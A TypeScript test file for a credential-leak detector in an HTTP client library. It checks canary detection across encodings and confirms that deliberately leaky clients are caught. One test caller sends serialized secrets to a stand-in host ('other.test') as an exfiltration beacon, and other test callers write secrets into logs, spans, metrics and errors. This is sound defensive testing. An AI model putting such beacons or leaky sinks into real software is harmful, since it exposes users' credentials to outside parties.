// What the case `leaks` looks with, and for each promise a client that breaks it. Its short form runs in `stress.test.ts`.
import { describe, expect, it } from "@effect/vitest"
import * as Timeline from "@countersign/client/Timeline"
import * as HttpClientRequest from "@effect/platform/HttpClientRequest"
import * as Effect from "effect/Effect"
import * as FastCheck from "effect/FastCheck"
import * as Metric from "effect/Metric"
import { PCGRandom } from "effect/Utils"
import * as Leaks from "../src/leaks/leaks.js"
import type { Caller, Order } from "../src/leaks/caller.js"
import { ours } from "../src/leaks/caller.js"
import * as Canary from "../src/leaks/canary.js"
import { leaky } from "../src/leaks/leakyClient.js"
import { deals } from "../src/leaks/matrix.js"
import * as memory from "../src/leaks/memoryNetwork.js"
import { run } from "../src/leaks/trial.js"
import * as Stress from "../src/Stress.js"

const short: Stress.Run = { short: true, reportProgress: () => Effect.void }

describe("a canary", () => {
  const coats: Record<string, (secret: string) => string> = {
    "as it is": (secret) => secret,
    "in capitals": (secret) => secret.toUpperCase(),
    "percent-encoded": (secret) => [...Buffer.from(secret)].map((byte) => `%${byte.toString(16)}`).join(""),
    "in hexadecimal": (secret) => Buffer.from(secret).toString("hex").toUpperCase(),
    "in base64": (secret) => Buffer.from(secret).toString("base64"),
    "in base64 for URLs": (secret) => Buffer.from(secret).toString("base64url"),
    reversed: (secret) => [...secret].reverse().join("")
  }

  it.each(Object.entries(coats))("is found %s, whatever stands around it", (_, coat) => {
    const around = FastCheck.string()
    FastCheck.assert(
      FastCheck.property(FastCheck.nat(), around, around, around, (seed, before, after, outside) => {
        const canary = Canary.make(new PCGRandom(seed))
        const text = outside + coat(before + canary.value + after) + outside
        expect(Canary.isIn(canary, Canary.haystack(text))).toBe(true)
        expect(Canary.isIn(Canary.make(new PCGRandom(seed + 1)), Canary.haystack(text))).toBe(false)
      })
    )
  })
})

describe("the matrix", () => {
  it("is the same for a seed, deals each place to each pair of hosts, and lets nobody have what is looked for", () => {
    const cells = deals([["memory"]], 1)
    expect(cells).toEqual(deals([["memory"]], 1))
    expect(new Set(cells.map(({ from, place, to }) => `${place.name} ${from} ${to}`)).size).toBe(28 * 15)
    for (const { hops, isOwn, place, crossOriginBody } of cells) {
      if (isOwn) expect(hops).toContain("c")
      if (place.inBody === true) expect(crossOriginBody).toBe(false)
    }
  })
})

describe("what leaks in one place", () => {
  const cells = deals([["memory"]], 7)
    .filter(({ place }) => place.shown !== true)
    .slice(0, 48)

  /** Our client, and what somebody does to its calls. */
  const doing =
    (what: (order: Order, secrets: string) => Effect.Effect<unknown, unknown>): Caller =>
    (order) =>
      Effect.zipRight(what(order, JSON.stringify(order.put)), ours(order))

  const failing: Caller = (order) =>
    Effect.mapError(ours(order), (cause) => Object.assign(new Error("no"), { order, cause }))
  const told: Record<string, Caller> = {
    logs: doing((_, secrets) => Effect.logTrace(secrets)),
    spans: doing((_, secrets) => Effect.annotateCurrentSpan("call", secrets)),
    metrics: doing((_, secrets) => Metric.increment(Metric.tagged(Metric.counter("leak"), "call", secrets))),
    timeline: doing((_, secrets) => Timeline.emit(() => ({ _tag: "RequestFailed", reason: secrets }))),
    wire: doing(({ transport }, secrets) => {
      const beacon = HttpClientRequest.post(`http://other.test/x?${encodeURIComponent(secrets)}`)
      return Effect.withTracerEnabled(transport.execute(beacon), false)
    }),
    answers: (order) => Effect.as(Effect.ignore(ours(order)), order.put)
  }
  const sinksOf = (caller: Caller) =>
    Effect.map(
      run(caller, cells, memory.make(), 7, () => Effect.void),
      (verdicts) => verdicts.map(({ cell, leaks }) => ({ place: cell.place.name, leaks }))
    )

  it.live.each(Object.entries(told))("is found in the %s, and nowhere else", ([sink, caller]) =>
    Effect.gen(function* () {
      // Schemes are no plain values: what they hold shows on the wire, and where that is printed.
      const found = (yield* sinksOf(caller)).filter(({ leaks }) => leaks.length > 0)
      expect(found.length).toBeGreaterThan(cells.length / 3)
      for (const { leaks } of found) expect(leaks.filter((one) => one !== "logs" || sink !== "answers")).toEqual([sink])
    })
  )

  it.live("is found in the errors, and in what prints them", () =>
    Effect.gen(function* () {
      const found = (yield* sinksOf(failing)).flatMap(({ leaks }) => leaks)
      expect(new Set(found)).toEqual(new Set(["logs", "spans", "errors"]))
    })
  )

  it.live("is nowhere with our client", () =>
    Effect.gen(function* () {
      expect((yield* sinksOf(ours)).flatMap(({ leaks }) => leaks)).toEqual([])
    })
  )
})

describe("leaks", () => {
  const brokenBy = (caller: Caller, leaking: Caller) =>
    Effect.map(Leaks.measure(caller, leaking, 48)(short), (figures) => Stress.check(Leaks.promises, figures))

  it.live("catches a client that leaks, and misses none that does not", () =>
    Effect.gen(function* () {
      expect(yield* brokenBy(leaky, ours)).toEqual([
        "no credential goes or is shown anywhere else",
        "a client that leaks is caught in every case"
      ])
    })
  )

  it.live("is not ok with a client that sends nothing", () =>
    Effect.gen(function* () {
      expect(yield* brokenBy(() => Effect.void, leaky)).toEqual([
        "every credential comes to where it belongs",
        "two calls of five and more go on to an origin that may not have it",
        "a redirect within its origin takes it along"
      ])
    })
  )

  it("is not ok without sockets", () => {
    const figures: Leaks.Leaks = {
      ...{ cases: 9, sockets: 2, byTransport: {}, arrived: 9, crossed: 9, stayed: 1, wentAlong: 1, leaks: 0 },
      ...{ leakyCases: 0, bySink: {}, examples: "", caught: 9, missed: "" }
    }
    const broken = "there are cases, a third of them or more over real sockets"
    expect(Stress.check(Leaks.promises, figures)).toEqual([broken])
    expect(Stress.check(Leaks.promises, { ...figures, sockets: 3 })).toEqual([])
  })
})
